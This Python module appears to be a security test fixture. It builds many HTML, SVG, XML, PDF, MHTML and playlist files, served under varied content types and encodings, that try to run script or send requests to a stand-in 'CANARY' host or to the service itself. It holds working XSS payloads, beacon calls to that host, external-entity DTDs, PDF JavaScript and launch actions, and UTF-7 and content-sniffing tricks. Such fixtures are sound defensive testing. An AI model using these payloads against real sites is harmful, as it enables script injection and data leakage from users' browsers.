"""Files that try everything to run in a browser, or to make it send a request.

Whatever they reach for is at one of two places: a stranger's server, and the service itself.
"""

from __future__ import annotations

from dataclasses import dataclass

TITLE = "untouched"
RAN = "it-ran"
"""What is in every message, dialog and title that a script of theirs makes."""

_RUN = (
    "document.title='it-ran';console.log('it-ran');try{alert('it-ran')}catch(e){}"
    "for(const to of ['CANARY/fetch','HERE-fetch'])"
    "{fetch(to,{mode:'no-cors'});navigator.sendBeacon(to);new Image().src=to}"
    "try{document.cookie='ran=1';localStorage.ran=1}catch(e){}"
    "try{top.location='CANARY/top'}catch(e){}window.open('CANARY/popup')"
)
_RULES = '{"prefetch":[{"urls":["TO-rule"],"eagerness":"immediate"}]}'
_STYLE = (
    "@import 'TO-import';@import url(TO-import2);"
    "@font-face{font-family:theirs;src:url(TO-font)}"
    "body,svg,rect,text{background:url(TO-background);font-family:theirs;cursor:url(TO-cursor),auto;"
    "list-style:url(TO-list);border-image:url(TO-border);mask:url(TO-mask);fill:url(TO-fill#a);"
    "filter:url(TO-filter#a);clip-path:url(TO-clip#a);shape-outside:url(TO-shape);"
    "background-image:image-set(url(TO-set) 1x);offset-path:url(TO-offset#a)}"
    "body::before{content:url(TO-content)}"
)
_LINKS = "".join(
    f'<link rel="{rel}" href="TO-{rel.replace(" ", "-")}{number}" {more}/>'
    for number, (rel, more) in enumerate(
        [
            ("prefetch", ""),
            ("prefetch", 'as="document"'),
            ("prerender", ""),
            ("preconnect", ""),
            ("preconnect", 'crossorigin="anonymous"'),
            ("dns-prefetch", ""),
            *(
                ("preload", f'as="{kind}" crossorigin="anonymous"')
                for kind in ("script", "style", "image", "font", "fetch", "track")
            ),
            ("modulepreload", ""),
            ("stylesheet", ""),
            ("alternate stylesheet", ""),
            ("icon", ""),
            ("apple-touch-icon", ""),
            ("manifest", ""),
            ("compression-dictionary", ""),
        ]
    )
)
_ELEMENTS = (
    '<script src="TO-script"></script><script type="module" src="TO-module"></script>'
    '<script type="speculationrules">' + _RULES + "</script>"
    '<img src="TO-img" srcset="TO-srcset 2x" attributionsrc="TO-attribution" onerror="RUN"/>'
    '<img src="data:image/gif;base64,AAAA" onerror="RUN"/>'
    '<picture><source srcset="TO-picture"/><img src="TO-img2"/></picture>'
    '<iframe src="TO-iframe"></iframe><iframe src="javascript:RUN"></iframe>'
    '<iframe src="data:text/html,&lt;img src=TO-data&gt;"></iframe>'
    '<object data="TO-object"></object><embed src="TO-embed"/>'
    '<video src="TO-video" poster="TO-poster" autoplay="autoplay"></video>'
    '<audio src="TO-audio" autoplay="autoplay"><track src="TO-track" default="default"/></audio>'
    '<input type="image" src="TO-input" autofocus="autofocus" onfocus="RUN"/>'
    '<details open="open" ontoggle="RUN"></details><p style="background:url(TO-style)">text</p>'
    '<noscript><img src="TO-noscript"/><iframe src="TO-noscript2"></iframe></noscript>'
)
_HTML_ONLY = (
    "<iframe srcdoc=\"<img src='TO-srcdoc'><script>RUN</script>\"></iframe>"
    '<svg onload="RUN"><image href="TO-svg"/></svg><marquee onstart="RUN">x</marquee>'
    '<table background="TO-table"><tr><td background="TO-td">x</table>'
    '<form id="f" action="TO-form" method="post"><input name="a"></form>'
    "<script>document.forms.f.submit()</script>"
    '<div><template shadowrootmode="open"><img src="TO-shadow"></template></div>'
)
_IN_SVG = (
    '<rect width="90" height="90" style="fill:url(TO-rect#a)" filter="url(TO-attribute#a)"/>'
    '<image href="TO-image" width="9" height="9"/><use href="TO-use#a"/>'
    '<filter id="i"><feImage href="TO-feimage"/></filter><rect filter="url(#i)" width="9"/>'
    '<foreignObject width="90" height="90"><div xmlns="http://www.w3.org/1999/xhtml">'
    + _ELEMENTS
    + "</div></foreignObject>"
    '<a><text y="20">x</text><animate attributeName="href" values="javascript:RUN" begin="0s"/>'
    '<set attributeName="onmouseover" to="RUN"/></a>'
    '<animate attributeName="x" dur="1ms" onbegin="RUN" onend="RUN"/>'
)


@dataclass(frozen=True)
class File:
    """What is stored, and as what."""

    name: str
    content_type: str
    text: str
    shows_title: bool = True
    """Whether it is a document to browsers, which has the title that it gives itself."""
    encoding: str = "utf-8"
    """What its bytes are, whatever it says."""


def _twice(text: str) -> str:
    """The same aimed at the stranger and at the service."""
    return text.replace("TO-", "CANARY/") + text.replace("TO-", "HERE-")


def _html(head: str, body: str) -> str:
    return (
        f"<!doctype html><html><head><title>{TITLE}</title>{head}</head>"
        f'<body onload="RUN" onpageshow="RUN" background="CANARY/body">{body}</body></html>'
    )


def _xhtml(head: str, body: str) -> str:
    return (
        '<html xmlns="http://www.w3.org/1999/xhtml">'
        f'<head><title>{TITLE}</title>{head}</head><body onload="RUN">{body}</body></html>'
    )


def _svg(inside: str) -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="RUN">'
        f"<title>{TITLE}</title>{inside}</svg>"
    )


_STYLED = f"<style>{_STYLE}</style>"
_SCRIPT = "<script>RUN</script>"
_LOOSE = (
    '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'"/>'
    '<meta http-equiv="x-dns-prefetch-control" content="on"/>'
    '<meta http-equiv="set-cookie" content="ran=1"/>'
)
_SHEET = '<?xml-stylesheet type="text/css" href="TO-sheet"?>'
_TRANSFORM = '<?xml-stylesheet type="text/xsl" href="TO-transform"?>'
_DTD = (
    '<!DOCTYPE {root} SYSTEM "CANARY/dtd" [<!ENTITY one SYSTEM "CANARY/entity">'
    '<!ENTITY two SYSTEM "HERE-entity">]>'
)
_PAGE = _html(_LOOSE + _twice(_LINKS + _STYLED) + _SCRIPT, _twice(_ELEMENTS + _HTML_ONLY) + _SCRIPT)
_PLAYLIST = (
    "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n"
    '#EXT-X-KEY:METHOD=AES-128,URI="TO-key"\n#EXT-X-MAP:URI="TO-map"\n'
    "#EXTINF:9,\nTO-segment\n#EXT-X-ENDLIST\n"
)


_MHTML = (
    "From: <Saved by Blink>\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/related; type="text/html"; boundary="edge"\r\n\r\n'
    "--edge\r\nContent-Type: text/html\r\nContent-Location: http://127.0.0.1/page\r\n\r\n"
    f"{_PAGE}\r\n--edge--\r\n"
)
_PARTS = f"--edge\r\nContent-Type: text/html\r\nRefresh: 0;url=CANARY/part\r\n\r\n{_PAGE}\r\n--edge"
_FROM_A_PDF = (
    "app.alert('it-ran');console.println('it-ran');app.launchURL('CANARY/launched',true);"
    "this.submitForm('CANARY/submitted');this.getURL('CANARY/got');"
    "app.openDoc('CANARY/opened');this.mailForm(false,'a@example.com')"
)
_PDF = (
    "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/URI<</Base(CANARY/base)>>"
    "/AA<</WC 5 0 R/DC 5 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>>>endobj\n"
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 7 0 R/C 5 0 R>>>>endobj\n"
    "4 0 obj<</S/URI/URI(CANARY/opening)/Next 6 0 R>>endobj\n"
    "5 0 obj<</S/SubmitForm/F(CANARY/form)/Flags 4>>endobj\n"
    f"6 0 obj<</S/JavaScript/JS({_FROM_A_PDF})>>endobj\n"
    "7 0 obj<</S/GoToR/F(CANARY/remote)/D[0/Fit]/Next 8 0 R>>endobj\n"
    "8 0 obj<</S/Launch/F(CANARY/launch)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
)
# A broken one sends its reader on to the address of 64 bytes in its beginning.
_EXCHANGE = "sxg1-b3\0\0\x40SECURE/exchange?" + "x" * 200


def _other(name: str, content_type: str, text: str, encoding: str = "utf-8") -> File:
    """What is no page to browsers, or a page without a title."""
    return File(name, content_type, text, shows_title=False, encoding=encoding)


_UTF_7 = _html("", _SCRIPT).replace("<", "+ADw-").replace(">", "+AD4-")
_NO_TITLE = _PAGE.replace(f"<title>{TITLE}</title>", "")


def _playlist(name: str, content_type: str, to: str) -> File:
    return File(name, content_type, _PLAYLIST.replace("TO-", to), shows_title=False)


FILES = [
    File("page.html", "text/html", _PAGE),
    File("notes.txt", "text/html; charset=utf-8", _PAGE),
    File("as-text.html", "text/plain", _PAGE, shows_title=False),
    File("list.html", "video/mp4, text/html", _PAGE),
    *(
        File(f"refresh{number}.html", "text/html", _html(meta, ""))
        for number, meta in enumerate(
            [
                '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
                '<meta http-equiv="refresh" content="0;url=HERE-refresh">',
                '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
            ]
        )
    ),
    File(
        "base.html",
        "text/html",
        _html(
            '<base href="CANARY/base/" target="_top"><link rel="stylesheet" href="relative">',
            '<img src="relative"><script src="relative"></script><iframe src="relative"></iframe>'
            '<form id="f" action="relative"></form><script>f.submit()</script>',
        ),
    ),
    File(
        "page.xhtml",
        "application/xhtml+xml",
        _SHEET.replace("TO-", "CANARY/")
        + _DTD.format(root="html")
        + _xhtml(_twice(_LINKS + _STYLED) + _SCRIPT, _twice(_ELEMENTS) + _SCRIPT),
    ),
    File(
        "page.xml",
        "text/xml",
        _SHEET.replace("TO-", "HERE-") + _xhtml(_LINKS.replace("TO-", "CANARY/"), _SCRIPT),
    ),
    *(
        File(
            f"transformed{number}.xml",
            "application/xml",
            _TRANSFORM.replace("TO-", to) + _xhtml("", _SCRIPT),
            shows_title=False,
        )
        for number, to in enumerate(["CANARY/", "HERE-"])
    ),
    File(
        "as-video.xml",
        "video/a+xml",
        _xhtml(_LINKS.replace("TO-", "CANARY/"), _SCRIPT),
        shows_title=False,
    ),
    *(
        File(
            f"picture{number}.svg",
            "image/svg+xml",
            _SHEET.replace("TO-", to)
            + _DTD.format(root="svg")
            + _svg(
                f"{_STYLED}{_SCRIPT}<script href='TO-href'/>{_IN_SVG}".replace("TO-", to)
                + _LINKS.replace("TO-", to).replace(
                    "<link ", '<link xmlns="http://www.w3.org/1999/xhtml" '
                )
            ),
        )
        for number, to in enumerate(["CANARY/", "HERE-"])
    ),
    File("as-sheet.xml", "text/xsl", _xhtml(_LINKS.replace("TO-", "CANARY/"), _SCRIPT)),
    *(
        _other(f"as{number}.xml", content_type, _xhtml(_LINKS.replace("TO-", "CANARY/"), _SCRIPT))
        for number, content_type in enumerate(
            ["application/rss+xml", "application/atom+xml", "application/mathml+xml"]
        )
    ),
    File("utf-16.html", "text/html; charset=utf-16le", _PAGE, encoding="utf-16-le"),
    File("marked.html", "text/html", _PAGE, encoding="utf-16"),
    File("other.html", "text/html; charset=iso-2022-jp", _PAGE),
    _other("utf-7.html", "text/html; charset=utf-7", _UTF_7),
    _other("utf-7.txt", "text/plain; charset=utf-7", _UTF_7),
    _other("untyped.html", "", _NO_TITLE),
    *(
        _other(f"page{number}.html", content_type, _NO_TITLE)
        for number, content_type in enumerate(
            [
                *("application/octet-stream", "application/x-unknown", "text/x-unknown", "text"),
                *("text/plain; charset=nonsense", "text/javascript", "*/*", "unknown"),
                *("application/json", "text/cache-manifest", "text/vtt", "application/unknown"),
                *("multipart/byteranges; boundary=edge", "application/x-www-form-urlencoded"),
            ]
        )
    ),
    *(
        _other(f"picture{number}.html", content_type, f"{begin}/*{_NO_TITLE}*/=1;RUN")
        for number, (content_type, begin) in enumerate(
            [("image/gif", "GIF89a"), ("image/png", "\x89PNG\r\n\x1a\n"), ("image/bmp", "BM")]
        )
    ),
    *(
        _other(name, content_type, _MHTML)
        for name, content_type in [
            ("saved.mht", 'multipart/related; type="text/html"; boundary="edge"'),
            ("saved.mhtml", "message/rfc822"),
            ("saved.eml", "application/x-mimearchive"),
        ]
    ),
    _other("parts.html", "multipart/x-mixed-replace; boundary=edge", _PARTS),
    _other("as-pdf.html", "application/pdf", _NO_TITLE),
    _other("exchange.sxg", "application/signed-exchange;v=b3", _EXCHANGE, "latin-1"),
    _other("bundle.wbn", "application/webbundle", _NO_TITLE),
    _other("extension.crx", "application/x-chrome-extension", f"Cr24{_NO_TITLE}"),
    _playlist("playlist.mp4", "video/mp4", "CANARY/"),
    _playlist("playlist-here.mp4", "video/mp4", "HERE-"),
    _playlist("playlist.m3u8", "audio/mpegurl", "CANARY/"),
    _playlist("playlist-here.m3u8", "application/vnd.apple.mpegurl", "HERE-"),
]
PDF = _other("script.pdf", "application/pdf", _PDF)
"""It says by itself that it ran: its reader's own program runs what is in it."""

SCRIPT = File(
    "script.js", "application/javascript", "self.seen = self.origin; console.log('it-ran')"
)


def aimed(file: File, canary: str, here: str) -> bytes:
    """The file's bytes, reaching for ``canary`` and, with a query to tell by, for ``here``."""
    text = file.text.replace("RUN", _RUN).replace("CANARY", canary)
    text = text.replace("SECURE", canary.replace("http:", "https:"))
    return text.replace("HERE-", f"{here}?").encode(file.encoding)
